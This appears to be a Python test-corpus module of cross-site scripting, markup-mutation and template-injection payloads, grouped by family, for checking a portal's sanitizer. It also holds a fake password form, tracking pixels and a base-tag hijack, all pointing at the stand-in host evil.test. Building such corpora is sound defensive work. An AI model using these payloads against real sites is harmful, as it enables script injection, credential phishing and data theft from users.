"""What people paste, mail and name things to make a portal run their script: known families, each marked if it lives.

A payload that runs calls `__hit()`; an element of its own carries the attribute `data-hit`, so that it is found even
where nothing runs. Nothing here leads to a real host.
"""

HIT = "__hit()"

TAGS = (
    "<script data-hit>__hit()</script>",
    "<script data-hit src=//evil.test/x.js></script>",
    "<SCRIPT/data-hit>__hit()</SCRIPT>",
    "<scr<script>ipt data-hit>__hit()</scr</script>ipt>",
    "<img data-hit src=x onerror=__hit()>",
    "<img/data-hit/src=x/onerror=__hit()>",
    "<img data-hit src='x' onerror=&#x5f;&#x5f;hit()>",
    "<img data-hit srcset=//evil.test/x.png>",
    "<body data-hit onload=__hit()>",
    "<input data-hit autofocus onfocus=__hit()>",
    "<details data-hit open ontoggle=__hit()>",
    "<video data-hit><source onerror=__hit()></video>",
    "<audio data-hit src=x onerror=__hit()>",
    "<iframe data-hit src=javascript:__hit()></iframe>",
    "<iframe data-hit srcdoc='<script>parent.__hit()</script>'></iframe>",
    "<object data-hit data=javascript:__hit()></object>",
    "<embed data-hit src=//evil.test/x.swf>",
    "<marquee data-hit onstart=__hit()>",
    "<a data-hit href=x onpointerover=__hit()>x</a>",
    "<xss data-hit id=x tabindex=1 onfocus=__hit()></xss>",
    "<template data-hit><script>__hit()</script></template>",
    "<button data-hit popovertarget=x>x</button><b data-hit popover id=x onbeforetoggle=__hit()>",
    "<script data-hit>alert(1)</script>",
    "<img data-hit src=x onerror=confirm(1)>",
)
ATTRIBUTES = (
    '" onmouseover=__hit() data-hit="',
    "' onfocus=__hit() autofocus data-hit='",
    "` onclick=__hit() data-hit=`",
    '"><img data-hit src=x onerror=__hit()>',
    "'><svg data-hit onload=__hit()>",
    '" style="animation-name:x" onanimationstart="__hit()" data-hit="',
    "</title><script data-hit>__hit()</script>",
    "</textarea><script data-hit>__hit()</script>",
    "</option></select><img data-hit src=x onerror=__hit()>",
    "--><script data-hit>__hit()</script><!--",
    "]]><script data-hit>__hit()</script>",
    "</script><script data-hit>__hit()</script>",
    "</style><script data-hit>__hit()</script>",
    "';__hit();//",
    '";__hit();//',
    "\\';__hit();//",
    "${__hit()}",
)
PICTURES = (
    "<svg data-hit onload=__hit()>",
    "<svg data-hit/onload=__hit()//",
    "<svg data-hit><script>__hit()</script></svg>",
    "<svg data-hit><a href=javascript:__hit()><text y=9>x</text></a></svg>",
    "<svg data-hit><animate onbegin=__hit() attributeName=x dur=1s>",
    "<svg data-hit><set attributeName=onload to=__hit()>",
    "<svg data-hit><use href=//evil.test/x.svg#x></use></svg>",
    "<svg data-hit><image href=//evil.test/x.png></image></svg>",
    "<svg data-hit><foreignObject><img src=x onerror=__hit()></foreignObject></svg>",
    "<math data-hit href=javascript:__hit()>x</math>",
    "<math data-hit><maction actiontype=statusline xlink:href=javascript:__hit()>x</maction></math>",
)
LINKS = (
    "javascript:__hit()",
    "JaVaScRiPt:__hit()",
    "java\tscript:__hit()",
    "\u0001javascript:__hit()",
    "javascript://%0a__hit()",
    "javascript&colon;__hit()",
    "vbscript:__hit()",
    "data:text/html,<script>__hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+",
    "//evil.test/",
    "<a data-hit href=javascript:__hit()>x</a>",
    "<a data-hit href='jav&#x09;ascript:__hit()'>x</a>",
    "<a data-hit href=data:text/html,x>x</a>",
    "[x](javascript:__hit())",
    "[x](<java script:__hit()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+)",
    '[x](http://x.test/"onmouseover=__hit() "x)',
    "![x](//evil.test/x.png)",
    "![x](javascript:__hit())",
    "<javascript:__hit()>",
    "[x]: javascript:__hit()\n[x]",
)
# The figure is what each would become if somebody worked it out; it stands nowhere else.
OUTCOME = "54439"
TEMPLATES = (
    "{{7777*7}}",
    "${7777*7}",
    "#{7777*7}",
    "<%= 7777*7 %>",
    "{%if 1%}{{7777*7}}{%endif%}",
    "{%print(7777*7)%}",
    "*{7777*7}",
    "@(7777*7)",
    "[[7777*7]]",
    "{{'%d'%(7777*7)}}",
    "%(7777*7)s",
    "{0.__class__}",
    "{{config}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('__hit()')()}}",
    "$requester_$(7777*7)",
    "%(name)s %s %d %%",
    "{#7777#}{{{7777*7}}}",
)
MUTATIONS = (
    "<noscript data-hit><p title='</noscript><img data-hit src=x onerror=__hit()>'>",
    "<math data-hit><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__hit()&gt;'>",
    "<svg data-hit></p><style><a id='</style><img data-hit src=1 onerror=__hit()>'>",
    "<form data-hit><math><mtext></form><form><mglyph><style></math><img data-hit src onerror=__hit()>",
    "<listing data-hit>&lt;img src=x onerror=__hit()&gt;</listing>",
    "<xmp data-hit><p title='</xmp><img data-hit src=x onerror=__hit()>'>",
    "<select data-hit><style></select><img data-hit src=x onerror=__hit()>",
    "&lt;img data-hit src=x onerror=__hit()&gt;",
    "&amp;lt;script data-hit&amp;gt;__hit()&amp;lt;/script&amp;gt;",
    "%3Cscript%20data-hit%3E__hit()%3C/script%3E",
    "<!--><img data-hit src=x onerror=__hit()>-->",
    "<plaintext data-hit>",
    "<b title='<!--'><img data-hit src=x onerror=__hit()></b>",
)
ENCODINGS = (
    "+ADw-script data-hit+AD4-__hit()+ADw-/script+AD4-",
    "\u00bcscript data-hit\u00be__hit()\u00bc/script\u00be",
    "\uff1cscript data-hit\uff1e__hit()\uff1c/script\uff1e",
    "<img data-hit src=x\u2028onerror=__hit()>",
    "<img\u00a0data-hit src=x onerror=__hit()>",
    "\u202e<img data-hit src=x onerror=__hit()>\u202c",
    "\u2066gpj.exe\u2069\u202etxt",
    "<\u200bscript data-hit>__hit()</\u200bscript>",
    "\u200b\u200c\u200d\ufeff\u2060",
    "Z\u0351\u0352a\u0353\u0354l\u0355g\u0356o\u0357" * 6,
    "\ufffd\ufffe\uffff\U0010ffff",
    "\u061cמחשב\u200f كمبيوتر",
)
STYLES = (
    "<style data-hit>@import '//evil.test/x.css';</style>",
    "<style data-hit>*{background:url(//evil.test/x)}</style>",
    "<p data-hit style='background:url(//evil.test/x)'>x</p>",
    "<p data-hit style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<link data-hit rel=stylesheet href=//evil.test/x.css>",
    "<p data-hit style='width:expression(__hit())'>x</p>",
    "url(javascript:__hit())",
)
LETTERS = (
    "<base data-hit href=//evil.test/>",
    "<meta data-hit http-equiv=refresh content='0;url=//evil.test/'>",
    "<meta data-hit http-equiv=refresh content='0;url=javascript:__hit()'>",
    "<form data-hit action=//evil.test/><input name=password type=password><button>Sign in</button></form>",
    "<button data-hit formaction=javascript:__hit()>x</button>",
    "<table data-hit background=//evil.test/x.png><tr><td background=//evil.test/y.png>x</table>",
    "<body data-hit background=//evil.test/x.png>",
    "<img data-hit src=cid:nothing onerror=__hit()>",
    "<img data-hit src='cid:\"onerror=__hit() x=\"'>",
    "<img data-hit src=//evil.test/open.gif width=1 height=1>",
    "<a data-hit href=//evil.test/ ping=//evil.test/ping>x</a>",
    "<bgsound data-hit src=//evil.test/x.mid><layer data-hit src=//evil.test/>",
    "<!--[if gte mso 9]><script data-hit>__hit()</script><![endif]-->",
    "<a id=config data-hit></a><form id=csrf_token data-hit><input name=attributes></form>",
)
LONG = (
    "W" * 140,
    "x" * 4000,
    "<" * 300 + "img data-hit src=x onerror=__hit()>",
    "<p data-hit>" * 120,
    "[" * 300 + "x" + "](x)" * 50,
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "pictures": PICTURES,
    "links": LINKS,
    "templates": TEMPLATES,
    "mutations": MUTATIONS,
    "encodings": ENCODINGS,
    "styles": STYLES,
    "letters": LETTERS,
    "long": LONG,
}
CORPUS = tuple(payload for family in FAMILIES.values() for payload in family)
# One that breaks out of text, attributes, titles, scripts, comments and fields; the first part alone fits most columns.
SHORT = "'\"><img data-hit src=x onerror=__hit()>"
COMBINED = (
    SHORT
    + "</title></textarea></select></style></script>--><script data-hit>__hit()</script><svg data-hit onload=__hit()>"
    + "[x](javascript:__hit()) {{7777*7}} ${7777*7}<base data-hit href=//evil.test/>\u202e\u200b "
    + "<math data-hit><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__hit()&gt;'>"
)
